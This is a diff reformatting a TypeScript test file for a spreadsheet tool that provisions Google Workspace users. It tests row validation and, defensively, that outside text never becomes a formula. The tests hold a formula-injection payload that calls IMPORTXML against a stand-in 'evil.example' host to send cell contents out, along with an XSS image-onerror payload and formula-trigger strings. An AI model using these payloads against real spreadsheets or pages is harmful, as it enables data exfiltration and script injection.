@@ -5,8 +5,20 @@ import type { TestDesk } from '../sandbox-desk';
 /** What bad rows are told, at their cells and in Details; and that no text from outside ever becomes a formula. */
 
 const bad = {
-  Email: 'ann..test@shop.example', 'First name': '<b>Ann</b>', 'Last name': '-', 'Org unit': '/Sales//North', Licences: 'Busness Standard', Roles: 'Super Admin', Aliases: 'nonsense', State: 'Sleeping',
-  Language: 'Klingonish', 'Recovery email': 'nobody', 'Recovery phone': '600 111 222', 'Change password at sign-in': 'perhaps', Password: 'kurz', 'Super admin': 'maybe',
+  Email: 'ann..test@shop.example',
+  'First name': '<b>Ann</b>',
+  'Last name': '-',
+  'Org unit': '/Sales//North',
+  Licences: 'Busness Standard',
+  Roles: 'Super Admin',
+  Aliases: 'nonsense',
+  State: 'Sleeping',
+  Language: 'Klingonish',
+  'Recovery email': 'nobody',
+  'Recovery phone': '600 111 222',
+  'Change password at sign-in': 'perhaps',
+  Password: 'kurz',
+  'Super admin': 'maybe',
 };
 const good = { Email: 'bob@shop.example', 'First name': 'Bob', 'Last name': 'Test' };
 
@@ -29,18 +41,26 @@ describe('a bad row', () => {
   test('loses the note of a cell that is mended, and is done once all of them are', () => {
     const desk = open([{ ...good, Licences: 'Busness Standard', 'Recovery phone': '600' }]);
     desk.check();
-    expect([desk.note('bob@shop.example', 'Licences'), desk.note('bob@shop.example', 'Recovery phone')]).not.toContain('');
+    expect([desk.note('bob@shop.example', 'Licences'), desk.note('bob@shop.example', 'Recovery phone')]).not.toContain(
+      '',
+    );
     desk.type('bob@shop.example', 'Licences', 'Business Standard');
     desk.check();
     expect(desk.note('bob@shop.example', 'Licences')).toBe('');
     expect(desk.note('bob@shop.example', 'Recovery phone')).not.toBe('');
     desk.type('bob@shop.example', 'Recovery phone', '+34600111222');
     desk.checkAndRun();
-    expect([desk.row('bob@shop.example')['Status'], desk.note('bob@shop.example', 'Recovery phone')]).toEqual(['Done', '']);
+    expect([desk.row('bob@shop.example')['Status'], desk.note('bob@shop.example', 'Recovery phone')]).toEqual([
+      'Done',
+      '',
+    ]);
   });
 
-  test('keeps people\'s own notes, before and after ours', () => {
-    const desk = open([{ ...good, Licences: 'Busness Standard' }, { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test' }]);
+  test("keeps people's own notes, before and after ours", () => {
+    const desk = open([
+      { ...good, Licences: 'Busness Standard' },
+      { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test' },
+    ]);
     const cell = noteOf(desk, 'Licences', 'ask Vera about this');
     const other = noteOf(desk, 'First name', 'her nickname');
     desk.check();
@@ -53,7 +73,12 @@ describe('a bad row', () => {
   });
 
   test('has its notes at its own cells also when somebody sorts while the check goes on', () => {
-    const rows = ['ann', 'bob', 'cec'].map((name) => ({ Email: `${name}@shop.example`, 'First name': name, 'Last name': 'Test', Licences: name === 'ann' ? 'Busness Standard' : '' }));
+    const rows = ['ann', 'bob', 'cec'].map((name) => ({
+      Email: `${name}@shop.example`,
+      'First name': name,
+      'Last name': 'Test',
+      Licences: name === 'ann' ? 'Busness Standard' : '',
+    }));
     const desk = open(rows);
     let sorted = false;
     desk.host.onEffect = ({ kind, when }) => {
@@ -66,11 +91,22 @@ describe('a bad row', () => {
     expect(desk.rows().map(({ Email }) => Email)).toEqual(['cec@shop.example', 'bob@shop.example', 'ann@shop.example']);
     expect(desk.note('ann@shop.example', 'Licences')).toMatch(/Seatsheet:/);
     expect([desk.note('cec@shop.example', 'Licences'), desk.note('bob@shop.example', 'Licences')]).toEqual(['', '']);
-    expect(statuses(desk)).toEqual({ 'ann@shop.example': 'Needs you', 'bob@shop.example': 'Ready', 'cec@shop.example': 'Ready' });
+    expect(statuses(desk)).toEqual({
+      'ann@shop.example': 'Needs you',
+      'bob@shop.example': 'Ready',
+      'cec@shop.example': 'Ready',
+    });
   });
 
   test('of each kind that comes from another row or domain says so', () => {
-    const desk = open([good, { ...good }, { Email: 'x@unknown.example', 'First name': 'X', 'Last name': 'Y' }, { Email: 'y@shop.exampel', 'First name': 'X', 'Last name': 'Y' }, { Email: '', 'First name': 'No', 'Last name': 'Address' }, { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test', Aliases: 'bob@shop.example' }]);
+    const desk = open([
+      good,
+      { ...good },
+      { Email: 'x@unknown.example', 'First name': 'X', 'Last name': 'Y' },
+      { Email: 'y@shop.exampel', 'First name': 'X', 'Last name': 'Y' },
+      { Email: '', 'First name': 'No', 'Last name': 'Address' },
+      { Email: 'cec@shop.example', 'First name': 'Cec', 'Last name': 'Test', Aliases: 'bob@shop.example' },
+    ]);
     desk.check();
     const details = desk.rows().map(({ Details = '' }) => Details);
     expect(details[1]).toMatch(/row 2 too/);
@@ -95,12 +131,23 @@ function noteOf(desk: TestDesk, header: string, text: string): () => string {
 
 describe('a formula', () => {
   const evil = '=IMPORTXML("https://evil.example/?"&A1,"//a")';
-  const formulas = (desk: TestDesk): readonly string[] => desk.host.state.sheets.flatMap(({ cells }) => cells.flatMap((line) => line.flatMap((cell) => cell?.formula ?? [])));
+  const formulas = (desk: TestDesk): readonly string[] =>
+    desk.host.state.sheets.flatMap(({ cells }) => cells.flatMap((line) => line.flatMap((cell) => cell?.formula ?? [])));
 
   test('in the sheet is no name, no address, no org unit, and is written nowhere as one', () => {
     const desk = open([
-      { ...good, 'First name': evil }, { Email: 'cec@shop.example', 'First name': '+1+1', 'Last name': '@SUM(1)' }, { Email: evil, 'First name': 'A', 'Last name': 'B' },
-      { Email: 'dan@shop.example', 'First name': 'Dan', 'Last name': 'Test', 'Org unit': evil, Licences: evil, Roles: evil, Aliases: evil },
+      { ...good, 'First name': evil },
+      { Email: 'cec@shop.example', 'First name': '+1+1', 'Last name': '@SUM(1)' },
+      { Email: evil, 'First name': 'A', 'Last name': 'B' },
+      {
+        Email: 'dan@shop.example',
+        'First name': 'Dan',
+        'Last name': 'Test',
+        'Org unit': evil,
+        Licences: evil,
+        Roles: evil,
+        Aliases: evil,
+      },
     ]);
     desk.checkAndRun();
     expect(usersAt(desk)).toHaveLength(1);
@@ -109,12 +156,29 @@ describe('a formula', () => {
   });
 
   test('that comes back from Google as a name, an org unit or an alias stays text, in cells, notes, menus and answers', () => {
-    const people = [person('ann@shop.example', `${evil} Evil`), person('bob@shop.example', 'Bob Test', { orgUnitPath: '/=1+1' })];
-    const desk = open([{ Email: 'ann@shop.example', 'First name': 'Ann', 'Last name': 'Test' }, { Email: 'bob@shop.example', 'Org unit': '/Sales' }], {
-      users: [{ ...(people[0] ?? person('x', 'y')), name: { givenName: evil, familyName: '<img src=x onerror=alert(1)>' } }, ...people.slice(1)], orgUnits: [{ orgUnitPath: '/=1+1' }], roles: [{ roleName: evil }, { roleName: '+1+1' }],
-    });
+    const people = [
+      person('ann@shop.example', `${evil} Evil`),
+      person('bob@shop.example', 'Bob Test', { orgUnitPath: '/=1+1' }),
+    ];
+    const desk = open(
+      [
+        { Email: 'ann@shop.example', 'First name': 'Ann', 'Last name': 'Test' },
+        { Email: 'bob@shop.example', 'Org unit': '/Sales' },
+      ],
+      {
+        users: [
+          { ...(people[0] ?? person('x', 'y')), name: { givenName: evil, familyName: '<img src=x onerror=alert(1)>' } },
+          ...people.slice(1),
+        ],
+        orgUnits: [{ orgUnitPath: '/=1+1' }],
+        roles: [{ roleName: evil }, { roleName: '+1+1' }],
+      },
+    );
     desk.checkAndRun();
-    expect(desk.row('ann@shop.example')).toMatchObject({ Status: 'Needs you', Details: expect.stringContaining('=IMPORTXML') as string });
+    expect(desk.row('ann@shop.example')).toMatchObject({
+      Status: 'Needs you',
+      Details: expect.stringContaining('=IMPORTXML') as string,
+    });
     expect(desk.row('ann@shop.example')['Details']).not.toMatch(/^[=+\-@]/);
     expect(desk.needs()[0]?.samePerson).toMatch(/^=IMPORTXML/);
     expect(formulas(desk)).toEqual([]);
